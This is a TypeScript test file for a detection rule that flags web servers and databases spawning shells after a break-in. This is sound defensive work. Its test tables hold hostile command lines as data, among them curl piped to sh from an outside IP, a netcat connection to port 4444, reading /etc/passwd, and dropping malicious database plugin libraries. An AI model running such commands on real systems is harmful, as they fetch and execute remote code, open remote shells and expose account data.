import { describe, expect, it } from 'vitest';
import { pipes, Machine } from '../../../test/machine.ts';
import { make, tryOut } from '../testing.ts';
import { serverShell } from './behaviour.ts';
import { commandsOf } from './commands.ts';

const stage = (settings: Record<string, number> = {}): Machine => new Machine(serverShell, { settings });
const hour = 3_600_000;

describe('a web server that was broken into', () => {
  it.each([
    ['sh -c id', 'high'], ['sh -c whoami; uname -a; cat /etc/passwd', 'high'], ['sh -c curl -s http://198.51.100.7/x.sh | sh', 'critical'],
    ['sh -c wget -O /tmp/x http://198.51.100.7/x', 'high'], ['sh -c nc 198.51.100.7 4444', 'critical'], ['sh -c gcc -o /tmp/x /tmp/x.c', 'high'], ['sh -i', 'critical'], ['/bin/sh', 'critical'], ['bash -i -c bash', 'critical'],
    ['sh -c cd /tmp; python3 -c import os', undefined],
  ])('that runs %s, while it is still learned', (cmdline, level) => {
    const s = stage();
    s.spawn(s.worker(), '/usr/bin/dash', cmdline, { extra: pipes });
    expect(s.levels).toEqual(level === undefined ? [] : [level]);
  });

  it('names the service, also when a program of Python or Java serves', () => {
    const s = stage();
    const app = s.daemon('shop', '/usr/bin/node', 'node /srv/shop/server.js');
    s.tell('listener', app, { action: 'listener-start', protocol: 'tcp', destination_ip: '0.0.0.0', destination_port: 3000 });
    s.spawn(s.spawn(app, '/usr/bin/dash', '/bin/sh -c ls', { extra: pipes }), '/usr/bin/curl', 'curl http://198.51.100.7/x');
    const java = s.daemon('tomcat10', '/usr/lib/jvm/java-17/bin/java', 'java -classpath bootstrap.jar org.apache.catalina.startup.Bootstrap start');
    s.spawn(java, '/usr/bin/bash', 'bash -c id');
    expect(s.found.map((d) => [d.level, d.group?.['server']])).toEqual([['high', 'shop'], ['high', 'tomcat']]);
  });

  it('is one story for one worker, worse as it goes on', () => {
    const s = stage();
    const worker = s.worker();
    s.spawn(worker, '/usr/bin/dash', 'sh -c id');
    const sh = s.spawn(worker, '/usr/bin/dash', 'sh -c curl http://198.51.100.7/a|bash');
    s.spawn(sh, '/usr/bin/bash', 'bash', { extra: pipes });
    expect(s.levels).toEqual(['high', 'critical']);
    expect(new Set(s.found.map((d) => d.key)).size).toBe(1);
  });
});

describe('a database', () => {
  it.each([
    ['postgresql@15-main', '/usr/lib/postgresql/15/bin/postgres', 'sh -c id', 'high'],
    ['postgresql@15-main', '/usr/lib/postgresql/15/bin/postgres', 'sh -c perl -MIO -e 1', 'high'],
    ['mariadb', '/usr/sbin/mariadbd', 'sh -c curl http://198.51.100.7/x -o /tmp/x', 'critical'],
    ['redis-server', '/usr/bin/redis-server', 'sh -c bash -i', 'high'],
    ['redis-server', '/usr/bin/redis-server', '/bin/sh -i', 'critical'],
    ['mongod', '/usr/bin/mongod', 'sh -c ls', 'high'],
  ])('%s that runs a command', (unit, path, cmdline, level) => {
    const s = stage();
    s.spawn(s.daemon(unit, path), '/usr/bin/dash', cmdline);
    expect(s.levels).toEqual([level]);
  });

  it('that is given a library', () => {
    const s = stage();
    s.file(s.daemon('mariadb', '/usr/sbin/mariadbd'), 'create', '/usr/lib/mysql/plugin/udf_run.so');
    s.rename(s.daemon('redis-server', '/usr/bin/redis-server'), '/var/lib/redis/temp-1.rdb', '/var/lib/redis/exp.so');
    s.file(s.daemon('postgresql@15-main', '/usr/lib/postgresql/15/bin/postgres'), 'create', '/var/lib/postgresql/15/main/base/1/2');
    expect(s.levels).toEqual(['critical', 'critical']);
  });

  it('archives its log and takes part in a cluster', () => {
    const s = stage({ learnHours: 0 });
    const postgres = s.daemon('postgresql@15-main', '/usr/lib/postgresql/15/bin/postgres');
    for (const command of ['test ! -f /mnt/wal/0001 && cp pg_wal/0001 /mnt/wal/0001', 'pgbackrest --stanza=main archive-push pg_wal/0001', '/opt/bin/push-log pg_wal/0001']) s.spawn(postgres, '/usr/bin/dash', `sh -c ${command}`);
    s.spawn(s.daemon('mariadb', '/usr/sbin/mariadbd'), '/usr/bin/dash', "sh -c wsrep_sst_rsync --role 'joiner'");
    expect(s.levels).toEqual([]);
  });
});

describe('what a server usually starts', () => {
  it('known helpers are never told', () => {
    const s = stage({ learnHours: 0 });
    const worker = s.worker();
    for (const command of ['/usr/sbin/sendmail -t -i', 'convert a.jpg -resize 50% b.jpg', 'cd /var/www/x && git rev-parse HEAD', "ffmpeg -i a.mp4 b.webm 2>&1", 'df -h | gzip']) s.spawn(worker, '/usr/bin/dash', `sh -c ${command}`, { extra: pipes });
    s.spawn(worker, '/usr/bin/convert', 'convert a b');
    expect(s.found.map((d) => d.events[0]?.process_cmdline)).toEqual([]);
  });

  it('a server may start itself, and its own start is none', () => {
    const s = stage({ learnHours: 0 });
    const app = s.daemon('shop', '/usr/bin/node', 'node /srv/shop/server.js');
    s.tell('listener', app, { action: 'listener-start', protocol: 'tcp', destination_port: 3000 });
    s.spawn(app, '/usr/bin/node', '/usr/bin/node /srv/shop/worker.js');
    const gunicorn = s.spawn(s.spawn(1, '/usr/bin/dash', 'sh /srv/run.sh'), '/usr/bin/python3.11', 'python3 /usr/bin/gunicorn app:app');
    s.spawn(gunicorn, '/usr/bin/python3.11', 'python3 /usr/bin/gunicorn app:app');
    // What a unit runs before its server does.
    const pre = s.spawn(1, '/usr/bin/dash', '/bin/sh /usr/sbin/apachectl start', { cgroup: '/system.slice/apache2.service' });
    s.spawn(pre, '/usr/bin/id', 'id -u');
    s.spawn(pre, '/usr/sbin/apache2', '/usr/sbin/apache2 -k start');
    expect(s.levels).toEqual([]);
  });

  it('is learned for a day: the same is quiet after, the new is told, the dangerous is told throughout', () => {
    const s = stage();
    const worker = s.worker();
    for (let i = 0; i < 30; i++) {
      s.spawn(worker, '/usr/bin/dash', 'sh -c /usr/local/bin/thumbs --all');
      s.spawn(worker, '/usr/bin/python3.11', 'python3 /var/www/tools/report.py');
      s.later(hour);
    }
    expect(s.levels).toEqual([]);
    s.spawn(worker, '/usr/bin/dash', 'sh -c /usr/local/bin/other');
    expect(s.levels).toEqual(['medium']);
    const again = new Machine(serverShell, { state: s.run.save?.() });
    again.clock = s.clock;
    const next = again.worker();
    again.spawn(next, '/usr/bin/dash', 'sh -c /usr/local/bin/thumbs --one');
    expect(again.levels).toEqual([]);
    again.spawn(next, '/usr/bin/dash', 'sh -c id');
    expect(again.levels).toEqual(['high']);
    expect(s.run.learning?.()).toMatchObject({ ready: true });
  });

  it('a download each hour from the first day on becomes its own', () => {
    const s = stage();
    const worker = s.worker();
    for (let i = 0; i < 26; i++) { s.spawn(worker, '/usr/bin/dash', 'sh -c curl -s https://rates.example/today'); s.later(hour); }
    const told = s.found.length;
    for (let i = 0; i < 10; i++) { s.spawn(worker, '/usr/bin/dash', 'sh -c curl -s https://rates.example/today'); s.later(hour); }
    expect(s.found.length).toBe(told);
  });

  it('a build server runs scripts by trade', () => {
    const s = stage({ learnHours: 0 });
    const jenkins = s.daemon('jenkins', '/usr/bin/java', 'java -jar /usr/share/java/jenkins.war');
    s.tell('listener', jenkins, { action: 'listener-start', protocol: 'tcp', destination_port: 8080 });
    s.spawn(jenkins, '/usr/bin/dash', '/bin/sh -xe /tmp/jenkins123.sh');
    s.spawn(jenkins, '/usr/bin/dash', 'sh -c curl https://artifacts.example/x');
    expect(s.levels).toEqual([]);
  });
});

it('without a lineage the parent tells', () => {
  const { run, found } = tryOut(serverShell);
  run.observe(make('process_creation', 1, { action: 'process-start', process_path: '/bin/sh', process_cmdline: 'sh -c id', parent_path: '/usr/sbin/apache2', parent_pid: 9 }));
  run.observe(make('process_creation', 2, { action: 'process-start', process_path: '/bin/sh', process_cmdline: 'sh -c id', parent_path: '/usr/bin/bash' }));
  expect(found.map((d) => [d.level, d.group?.['server']])).toEqual([['high', 'apache2']]);
});

it('reads the programs of a command', () => {
  expect(commandsOf('A=1 nohup /usr/bin/curl -s x 2>/dev/null | bash; cd /tmp && ./y `id` $(uname -a)')).toEqual(['curl', 'bash', 'cd', 'y', 'id', 'uname']);
  expect(commandsOf('')).toEqual([]);
  expect(commandsOf('> /tmp/x echo a; 2>&1 "nc" x'.repeat(50)).length).toBeLessThanOrEqual(16);
});
